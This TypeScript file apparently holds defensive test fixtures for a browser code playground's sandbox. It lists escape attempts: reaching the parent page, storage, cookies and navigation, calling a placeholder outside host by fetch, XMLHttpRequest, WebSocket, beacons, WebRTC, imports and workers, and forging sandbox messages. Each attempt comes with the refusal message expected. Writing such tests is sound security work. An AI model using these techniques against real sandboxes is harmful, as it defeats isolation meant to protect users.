/** Programs that try to get out of the sandbox, or to break the page around it. */

export interface Attempt {
  readonly name: string;
  /** @param site the site's own origin @param outside host and port of a server that nobody should reach */
  readonly code: (site: string, outside: string) => string;
  /** What the reader is told, each somewhere in the console or the status. */
  readonly told: readonly (string | RegExp)[];
}

/** Tries each way and prints how it went: `WORKED`, or `refused` with the reason. */
const tries = (ways: Readonly<Record<string, string>>): string => `
for (const [way, go] of [
${Object.entries(ways)
  .map(([way, code]) => `  [${JSON.stringify(way)}, async () => { ${code} }],`)
  .join('\n')}
]) {
  try { const value = await go(); console.log(value === false || value === undefined ? 'refused' : 'WORKED', way, 'without a word'); }
  catch (error) { console.log('refused', way, '(' + error?.message + ')'); }
}`;

/** For what may go on without an error and must not arrive: only the server can tell. */
const silently = (code: string): string => `${code}; return false;`;

const NOT_HERE = /is not available in this playground|is not defined|undefined/;

/** Ways out. */
export const ATTEMPTS: readonly Attempt[] = [
  {
    name: 'the page’s document',
    code: () =>
      tries({
        'write into it': `document.body.innerHTML = '<p id="escaped">';`,
        'make an element': `return document.createElement('p');`,
        'read its title': `return top.document.title;`,
      }),
    told: ['document is not defined'],
  },
  {
    name: 'the site’s storage',
    code: () =>
      tries({
        'write localStorage': `localStorage.setItem('escaped', '1'); return true;`,
        'read localStorage': `return localStorage.getItem('secret');`,
        'read sessionStorage': `return sessionStorage.getItem('secret');`,
      }),
    told: [NOT_HERE],
  },
  {
    name: 'the site’s cookies',
    code: () =>
      tries({
        'document.cookie': `document.cookie = 'escaped=1'; return true;`,
        'cookieStore.set': `await cookieStore.set('escaped', '1'); return true;`,
        'cookieStore.get': `return cookieStore.get('secret');`,
      }),
    told: [NOT_HERE],
  },
  {
    name: 'databases, caches and files',
    code: () =>
      tries({
        indexedDB: `return await new Promise((good, bad) => { const open = indexedDB.open('escaped'); open.onsuccess = good; open.onerror = () => bad(open.error); });`,
        caches: `return caches.open('escaped');`,
        files: `return (navigator.storage ?? StorageManager.prototype).getDirectory();`,
        locks: `return navigator.locks.request('escaped', () => true);`,
      }),
    told: ['indexedDB is not available in this playground'],
  },
  {
    name: 'the page’s window',
    code: () =>
      tries({
        parent: `parent.escaped = 1; return true;`,
        top: `top.escaped = 1; return true;`,
        'postMessage to the frame': `postMessage({ kind: 'finished', simulatedMs: 1 }); return true;`,
        'a channel to other tabs': `new BroadcastChannel('escaped').postMessage(1); return true;`,
      }),
    told: ['parent is not defined', 'postMessage is not available in this playground'],
  },
  {
    name: 'the window that opened the page',
    code: (_, outside) =>
      tries({
        opener: `opener.location = 'http://${outside}/opener'; return true;`,
        open: `return open('http://${outside}/popup');`,
      }),
    told: ['opener is not defined'],
  },
  {
    name: 'navigation',
    code: (_, outside) =>
      tries({
        'location.href': silently(`location.href = 'http://${outside}/href'`),
        'location.assign': `location.assign('http://${outside}/assign'); return true;`,
        history: `history.pushState(null, '', '/escaped'); return true;`,
        'assign location': silently(`location = 'http://${outside}/location'`),
      }),
    told: ['refused location.assign', 'history is not defined'],
  },
  {
    name: 'a service worker',
    code: (site) => tries({ register: `return navigator.serviceWorker.register('${site}/escaped.js');` }),
    told: [NOT_HERE],
  },
  {
    name: 'the real network by fetch',
    code: (site, outside) =>
      tries({
        fetch: `return fetch('http://${outside}/fetch');`,
        'the native fetch': `return WorkerGlobalScope.prototype.fetch.call(self, 'http://${outside}/native', { mode: 'no-cors' });`,
        'fetch after deleting the simulated one': `delete globalThis.fetch; return fetch('http://${outside}/deleted', { mode: 'no-cors' });`,
        'a path of the site': `return WorkerGlobalScope.prototype.fetch.call(self, '${site}/escaped');`,
      }),
    told: ['Nothing in this scenario answers', 'refused'],
  },
  {
    name: 'the real network by XMLHttpRequest',
    code: (_, outside) =>
      tries({
        XMLHttpRequest: `return await new Promise((good, bad) => { const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://${outside}/xhr'); xhr.onload = good; xhr.onerror = () => bad(Error('refused')); xhr.send(); });`,
      }),
    told: ['Nothing in this scenario answers', 'refused XMLHttpRequest'],
  },
  {
    name: 'the real network by a name in pieces',
    code: (_, outside) =>
      tries({
        'native XMLHttpRequest': `return await new Promise((good, bad) => { const xhr = new self['XML' + 'HttpRequest'](); xhr.open('GET', 'http://${outside}/xhr'); xhr.onload = good; xhr.onerror = () => bad(Error('refused')); xhr.send(); });`,
        'native WebSocket': `return await new Promise((good, bad) => { const socket = new self['Web' + 'Socket']('ws://${outside}/socket'); socket.onopen = good; socket.onerror = () => bad(Error('refused')); });`,
      }),
    told: ['refused native XMLHttpRequest'],
  },
  {
    name: 'the real network by WebSocket',
    code: (_, outside) =>
      tries({
        WebSocket: `return new WebSocket('ws://${outside}/socket');`,
        WebTransport: `return new WebTransport('https://${outside}/transport');`,
      }),
    told: ['WebSocket is not available in this playground'],
  },
  {
    name: 'the real network by EventSource',
    code: (_, outside) => tries({ EventSource: `return new EventSource('http://${outside}/events');` }),
    told: ['EventSource is not available in this playground'],
  },
  {
    name: 'the real network by a beacon',
    code: (_, outside) =>
      tries({
        sendBeacon: `return navigator.sendBeacon('http://${outside}/beacon', 'x');`,
        keepalive: `return fetch('http://${outside}/keepalive', { method: 'POST', keepalive: true });`,
      }),
    told: ['refused sendBeacon'],
  },
  {
    name: 'the real network by WebRTC',
    code: (_, outside) =>
      tries({
        RTCPeerConnection: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${outside}' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); return true;`,
      }),
    told: [NOT_HERE],
  },
  {
    name: 'the real network by import',
    code: (site, outside) =>
      tries({
        'import()': `return import('http://${outside}/module.js');`,
        'import() of the site': `return import('${site}/escaped.js');`,
        'a module from text': `return import(URL.createObjectURL(new Blob(['import "http://${outside}/nested.js"'], { type: 'text/javascript' })));`,
        importScripts: `importScripts('http://${outside}/script.js'); return true;`,
      }),
    told: ['does not work in this playground', 'importScripts is not available'],
  },
  {
    name: 'the real network by a worker',
    code: (_, outside) =>
      tries({
        Worker: `return new Worker('http://${outside}/worker.js');`,
        'a worker from text': `return new Worker(URL.createObjectURL(new Blob(['fetch("http://${outside}/from-worker")'])));`,
        SharedWorker: `return new SharedWorker('http://${outside}/shared.js');`,
      }),
    told: ['Worker is not available in this playground'],
  },
  {
    name: 'the real network by an image or a font',
    code: (_, outside) =>
      tries({
        Image: `new Image().src = 'http://${outside}/image.png'; return true;`,
        FontFace: `return await new FontFace('escaped', 'url(http://${outside}/font.woff2)').load();`,
        'a report': silently(`console.log('%c ', 'background: url(http://${outside}/style.png)')`),
      }),
    told: ['Image is not defined'],
  },
  {
    name: 'messages in the sandbox’s name',
    code: () => `
const forged = { kind: 'console', level: 'log', values: [{ type: 'string', text: 'forged' }], at: 0, position: null };
for (const data of [forged, [forged], { kind: 'stop', id: 1 }, { kind: 'run', code: 'forged' }]) {
  self.dispatchEvent(new MessageEvent('message', { data, ports: [new MessageChannel().port1] }));
}
const ports = [];
const native = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...values) { ports.push(this); return native.apply(this, values); };
Function.prototype.bind = Function.prototype.call = Reflect.apply = () => { throw new Error('taken'); };
await new Promise((resolve) => setTimeout(resolve, 1000));
console.log('ports that it got hold of', ports.length);`,
    told: ['ports that it got hold of 0'],
  },
  {
    name: 'code from text',
    code: () =>
      tries({
        eval: `return (0, eval)('1');`,
        Function: `return new Function('return 1')();`,
        'a timer': `setTimeout('escaped = 1', 0); return true;`,
        'the constructor of a function': `return (() => undefined).constructor('return 1')();`,
      }),
    told: ['eval is not available in this playground', 'refused Function', 'A timer needs a function to call'],
  },
];
